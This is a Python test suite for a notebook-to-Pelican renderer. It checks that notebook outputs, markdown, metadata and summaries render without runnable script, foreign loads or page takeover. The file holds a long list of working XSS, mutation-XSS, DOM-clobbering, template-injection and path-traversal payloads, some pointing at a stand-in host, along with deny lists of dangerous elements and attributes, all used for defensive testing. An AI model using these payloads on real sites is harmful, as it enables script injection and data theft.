"""Nothing that a notebook holds can run on a page, take its names, or be taken for Pelican's."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path, PurePosixPath
from typing import Any

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from colophon.errors import Refused
from colophon.model import Cell, CellOptions, FrontMatter, Post
from colophon.render import RenderContext, render
from colophon.render.feed import feed_html

PAYLOADS = [
    # elements that run, load or submit
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<script\n>alert(1)</script\t\n bar>",
    "<<script>alert(1);//<</script>",
    "<script type=module>import('//evil.example')</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD4=>",
    "<applet code=X></applet><frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<form action=https://evil.example><input name=q><button formaction=javascript:alert(1)>go</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
    "<portal src=https://evil.example></portal><fencedframe src=https://evil.example></fencedframe>",
    "<dialog open onclose=alert(1)>x</dialog><menu><a onclick=alert(1)>x</a></menu>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x oNeRrOr =\n'alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onpageshow=alert(1)><div onpointerover=alert(1) style='position:fixed;inset:0'>x</div>",
    "<p autofocus tabindex=1 onfocus=alert(1) contenteditable accesskey=x>x</p>",
    "<marquee onstart=alert(1)>x</marquee><input autofocus onfocus=alert(1)>",
    # addresses
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#x6a;avascript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt&#58;alert(1)' target=_top ping=https://evil.example>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html;base64,PHNjcmlwdD4='>x</a><a href='blob:x'>x</a>",
    "<img src=https://evil.example/p.gif srcset='https://evil.example/q.gif 2x' lowsrc=https://evil.example/r.gif>",
    "<img src='\\\\evil.example\\p.gif'><img src='/\\evil.example/p.gif'><img src='http:evil.example/p.gif'>",
    "<video poster=https://evil.example/p.gif><source src=https://evil.example/v.mp4></video>",
    "<table background=https://evil.example/p.gif><td background=javascript:alert(1)>x</table>",
    "<q cite=javascript:alert(1)>x</q><blockquote cite='data:text/html,x'>y</blockquote>",
    "<area href=javascript:alert(1)><map name=m></map><img usemap=#m src=x>",
    # SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math href=javascript:alert(1)>x</math><math><maction actiontype=toggle href=javascript:x>y</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    # what parsers disagree about
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<script>' ?><% x %><!DOCTYPE x [<!ENTITY y 'z'>]>",
    "<p title=\"`<img src=x onerror=alert(1)>`\">x",
    "<a title='x'onclick=alert(1)>x</a><a/href=x/onclick=alert(1)>y</a>",
    "\ufeff<scr\x00ipt>alert(1)</scr\x00ipt><im\x0bg src=x onerror=alert(1)>",
    # leaving the cell
    "</div></section></main></body></html><h1>Mine now</h1>",
    "</pre></code></details></figure><p class=cell-label>9</p>",
    "<table><tr><td></div></div></section>",
    # names of the page
    "<a name=body><a name=cookie></a><img name=getElementById><form name=document><input name=cookie></form>",
    "<p id=cell-1>x</p><p id=references>x</p><p id=search>x</p><p id=__proto__>x</p>",
    "<div class='cell cell-fold admonition-title site-header anchor' role=banner aria-label=x>x</div>",
    "<div style='position:fixed;inset:0;z-index:9'>x</div><font color=red size=9>y</font><center>z</center>",
    # Pelican's and Jinja's
    "<a href='{static}/../../etc/passwd'>x</a><img src='|attach|/etc/passwd'><a href='{filename}/x.ipynb'>y</a>",
    "{{ 7*7 }}{% raw %}{# x #}<a href='{{ config }}'>x</a>",
]  # fmt: skip

FORBIDDEN_ELEMENTS = re.compile(
    r"(script|style|iframe|frame|frameset|object|embed|applet|base|meta|link|form|button|select|textarea|svg|template|"
    r"portal|fencedframe|noscript|h1|marquee|dialog|area|map|maction|annotation-xml)"
)
FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "srcset", "name", "target", "ping", "background", "accesskey", "autofocus"}
ADDRESS = re.compile(r"https?://|mailto:|tel:|//|#|/|\{static\}/|\{filename\}/|[^:{|]*$")
INPUT = {"type", "disabled", "checked", "class", "aria-label"}


def elements(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    """Yield name and attributes of each element, as a browser reads the HTML."""
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if isinstance(element.tag, str):
            yield element.tag.rpartition("}")[2], dict(element.attrib)


def assert_harmless(html: str) -> None:
    for name, attributes in elements(html):
        if name == "iframe":
            assert_shut(attributes)
            continue
        assert not FORBIDDEN_ELEMENTS.fullmatch(name), name
        assert name != "input" or set(attributes) <= INPUT
        for attribute, value in attributes.items():
            assert not attribute.startswith("on"), (name, attribute)
            assert attribute not in {"style", "srcdoc", "srcset", "name", "target", "ping", "background"}, (
                name,
                attribute,
            )
            if attribute in {"href", "src", "poster", "cite", "action", "data"}:
                assert_harmless_address(name, attribute, value)


def assert_shut(attributes: dict[str, str]) -> None:
    """A frame is ours: a file of the site, without an origin, so that its scripts can touch nothing."""
    assert set(attributes) == {"class", "src", "sandbox", "loading", "title", "height"}
    assert attributes["sandbox"] == "allow-scripts" and attributes["class"].startswith("frame-window")
    assert re.fullmatch(r"\{static\}/assets/[0-9a-f]{16}\.html", attributes["src"])


def assert_harmless_address(name: str, attribute: str, value: str) -> None:
    assert re.match(r"(https?://|mailto:|tel:|//|#|/|\{static\}/assets/|\{filename\}/|\{static\}/|[^:{|]*$)", value), (
        value
    )
    assert "evil.example" not in value or (name in {"a", "q", "blockquote"} and attribute in {"href", "cite"}), value
    assert not re.search(r"\{(?!static\}/|filename\}/)|\|", value), value
    assert ".." not in value


def rendered(root: Path, *cells: Cell, **front: Any) -> tuple[str, str]:
    """Return body and summary as a site shows them that lets every fault through."""
    context = RenderContext(root, severities=dict.fromkeys(("C301", "C402"), "warning"))
    article = render(Post(PurePosixPath("p.ipynb"), FrontMatter("T", **front), cells), context)
    return article.html, article.summary


def bundle(data: dict[str, Any], **options: Any) -> Cell:
    output = {"output_type": "display_data", "data": data, "metadata": {}}
    return Cell(1, "x", "code", "", CellOptions(**options), outputs=(output,))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("media_type", ["text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml"])
def test_no_output_runs_anything(media_type: str, payload: str, tmp_path: Path) -> None:
    html, _ = rendered(tmp_path, bundle({media_type: payload}))
    assert_harmless(html)
    assert_harmless(feed_html(html))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_the_author_runs_anything(payload: str, tmp_path: Path) -> None:
    cells = (
        Cell(1, "m", "markdown", f"Text {payload}\n\n{payload}"),
        Cell(2, "r", "raw", payload, media_type="text/html"),
        bundle(
            {"text/html": "<table><tr><td>1</table>"},
            label="tbl-x",
            tbl_cap=payload,
            code_fold=True,
            code_summary=payload,
        ),
    )
    html, summary = rendered(tmp_path, *cells, summary=payload)
    assert_harmless(html)
    assert_harmless(summary)
    assert not [name for name, _ in elements(summary) if name in {"p", "div", "img", "a", "h2"}]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_metadata_runs_anything(payload: str, tmp_path: Path) -> None:
    png = "iVBORw0KGgoAAAANSUhEUgAAAAIAAAABCAIAAAB7QOjdAAAADklEQVR4nGOYo6INRAwAGF4DZUVr0QAAAAAASUVORK5CYII="
    metadata = {"alt": payload, "image/png": {"width": payload, "height": [payload], "alt": payload}, payload: payload}
    outputs = (
        {"output_type": "display_data", "data": {"image/png": png}, "metadata": metadata},
        {"output_type": "display_data", "data": {"application/json": {payload: [payload]}}, "metadata": metadata},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
        {"output_type": "stream", "name": "stdout", "text": payload},
        {"output_type": "stream", "name": payload, "text": payload},
        {"output_type": "display_data", "data": {payload: payload}, "metadata": {}},
    )
    post = Post(
        PurePosixPath("p.ipynb"),
        FrontMatter("T"),
        (Cell(1, payload, "code", payload, outputs=outputs, execution_count=1),),
        language=payload,
    )
    article = render(post, RenderContext(tmp_path, severities={"C402": "warning"}))
    assert_harmless(article.html)


MARKUP = st.text(alphabet="<>/='\"&;!-[]{}|()`*_#$\\ \n\tabiosxy:.0") | st.text()
PIECES = st.lists(st.sampled_from(PAYLOADS) | MARKUP, max_size=4).map("".join)


@settings(max_examples=150)
@given(text=PIECES, media_type=st.sampled_from(["text/html", "text/markdown", "text/latex", "text/plain"]))
def test_any_mixture_is_harmless_and_balanced(text: str, media_type: str) -> None:
    html, _ = rendered(Path("/nonexistent"), bundle({media_type: text}), Cell(2, "m", "markdown", text))
    assert_harmless(html)
    parser = html5lib.HTMLParser()
    parser.parseFragment(f"{html}<i id='after'></i>")
    errors = [error for error in parser.errors if "codepoint" not in error[1]]
    assert not errors


def test_a_post_that_leads_out_of_the_content_folder_is_refused(tmp_path: Path) -> None:
    cell = Cell(1, "m", "markdown", "[x](../../etc/passwd)")
    with pytest.raises(Refused):
        render(Post(PurePosixPath("p.ipynb"), FrontMatter("T"), (cell,)), RenderContext(tmp_path))
